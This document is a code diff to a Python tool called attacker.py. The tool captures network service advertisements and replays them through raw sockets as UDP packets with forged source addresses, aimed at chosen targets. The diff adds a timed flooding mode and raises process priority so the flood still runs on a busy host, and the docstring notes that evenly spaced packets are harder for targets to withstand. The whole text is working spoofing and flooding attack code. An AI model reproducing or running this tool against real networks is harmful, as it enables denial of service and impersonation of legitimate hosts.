@@ -1,14 +1,15 @@
 """Records genuine advertisements and sends whatever it likes from any address; standard library only.
 
     attacker.py record FILE                      what this machine itself sends to the port, until it is ended
-    attacker.py send FILE COUNT RATE SOURCE>TARGET...
+    attacker.py send FILE SECONDS RATE SOURCE>TARGET...
                                                  datagrams of FILE in turn, to each target as if the source had sent them
 
 A file holds records: nanoseconds of the wall clock, length, datagram. `record` prints a line once it listens, `send` a line
-with the packets to each target and the seconds it took. They are spread evenly: that is harder to bear than bursts.
+with the packets to each target and the seconds it took. SECONDS 0: each of FILE once. They are spread evenly: that is harder to bear than bursts.
 """
 
 import ctypes
+import os
 import socket
 import struct
 import sys
@@ -80,19 +81,21 @@ def packet(datagram: bytes, source: str, target: str) -> bytes:
     return struct.pack("!BBHHHBBH", 0x45, 0xC0, 0, 0, 0, 255, socket.IPPROTO_UDP, 0) + addresses + udp
 
 
-def send(path: Path, count: int, rate: float, ways: list[str]) -> None:
+def send(path: Path, seconds: float, rate: float, ways: list[str]) -> None:
     ends = [way.split(">") for way in ways]
     rounds = [[(packet(one, source, target), (target, 0)) for source, target in ends] for _, one in read(path)]
     link = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     link.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
+    os.nice(-10)  # to be a flood on a busy host too
     began = time.monotonic()
-    sent = 0
-    while sent < count:
-        if sent <= (time.monotonic() - began) * rate:
+    sent, passed = 0, 0.0
+    while passed < seconds if seconds else sent < len(rounds):
+        if sent <= passed * rate:
             for data, target in rounds[sent % len(rounds)]:
                 link.sendto(data, target)
             sent += 1
-    print(sent, time.monotonic() - began, flush=True)
+        passed = time.monotonic() - began
+    print(sent, passed, flush=True)
 
 
 def main() -> None:
@@ -100,8 +103,8 @@ def main() -> None:
     if what == "record":
         record(Path(file))
     else:
-        count, rate, *ways = rest
-        send(Path(file), int(count), float(rate), ways)
+        seconds, rate, *ways = rest
+        send(Path(file), float(seconds), float(rate), ways)
 
 
 if __name__ == "__main__":
